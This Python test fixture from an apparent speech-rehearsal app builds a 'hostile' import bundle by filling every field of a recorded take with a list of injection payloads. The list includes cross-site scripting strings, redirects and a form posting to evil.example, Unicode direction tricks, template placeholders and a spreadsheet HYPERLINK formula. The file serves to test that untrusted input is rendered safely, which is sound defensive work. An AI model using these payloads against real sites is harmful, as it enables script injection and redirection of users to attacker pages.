"""A bundle of a stranger who wants something to run: in every text that a bundle can hold."""

from __future__ import annotations

from dataclasses import replace

from rehearse.exchange.strict_values import LINE_CHARS
from rehearse.library.desk_facts import MarkFacts, ReactionFacts
from rehearse.library.sent_takes import SentDrill, SentScript, SentTake
from rehearse.speech.corrections import NO_CORRECTIONS
from rehearse.speech.transcript import Span
from tests.helpers.bundle_soup import WHEN, a_note, a_take, an_id, files_of, packed

#: Each would open a box, write to the console, leave the page or set a flag, if it were more than text.
PAYLOADS = (
    "<script>window.hacked=1;alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=\"window.hacked=3;alert(3)\">",
    "<svg onload=alert(4)><a href='javascript:alert(5)'>press</a></svg>",
    "javascript:alert(6)",
    "\" onmouseover=alert(7) autofocus onfocus=alert(7) x=\"",
    "' onmouseover=alert(8) autofocus onfocus=alert(8) x='",
    "</title></style><style>body{display:none}</style>",
    "--><!-- ]]> </svg></li></ol></table></article></main>",
    "<iframe srcdoc='<script>parent.hacked=9</script>'></iframe>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action='//evil.example'><button autofocus>send</button><input autofocus onfocus=alert(10)>",
    "\u2028window.hacked=11\u2029alert(11)",
    "\u202e txet siht nruT \u2066",
    "&lt;script&gt;alert(12)&lt;/script&gt; &#x3c;img src=x onerror=alert(12)&#x3e;",
    "$title ${body} {title} %s\nBODY\n",
    "=HYPERLINK(\"//evil.example\")",
)  # fmt: skip


def hostile_take(number: int = 1) -> SentTake:
    """A take with all of them as title, speaker, tags, words, notes, answers, reactions, script and drill."""
    texts = [text.replace("\n", " ") for text in PAYLOADS]
    everything = " ".join(texts)[:LINE_CHARS]
    take = a_take(number)
    assert take.heard is not None
    heard = take.heard
    words = tuple(
        replace(word, text=texts[i]) if i < len(texts) else word for i, word in enumerate(heard.words)
    )
    notes = [
        a_note(number + 1000 + n, text, author=text[:200], span=Span(0.1 * n, 0.1 * n + 4.0))
        for n, text in enumerate(PAYLOADS)
    ]
    notes.append(a_note(number + 2000, "x" * 10_000, first_word=None, last_word=None, span=None))
    marks = [
        MarkFacts(f"r {text}"[:200], f"c{n}", text, WHEN.isoformat(), "no", text, text, text[:40], "off")
        for n, text in enumerate(texts)
    ]
    marks.append(
        MarkFacts("long", "long", "x" * 900, WHEN.isoformat(), "yes", "q" * 160, "r" * 4000, None, None)
    )
    reactions = [
        ReactionFacts(an_id(number + 3000 + n), WHEN.isoformat(), text, text, 0.1 * n, 0.1 * n + 3.0)
        for n, text in enumerate(texts)
    ]
    return replace(
        take,
        title=everything,
        speaker=everything,
        tags=tuple(text[:40] for text in texts),
        heard=replace(heard, words=words, model_id=everything),
        corrections=NO_CORRECTIONS,
        notes=tuple(notes),
        script=SentScript(an_id(number + 900), everything, " ".join(texts)),
        drill=SentDrill(texts[0], everything, 0, "missed", tuple(texts)),
        marks=tuple(marks),
        reactions=tuple(reactions),
    )


def hostile_bundle() -> bytes:
    """Right in every hash and number, so that it comes in."""
    return packed(files_of([hostile_take()]))
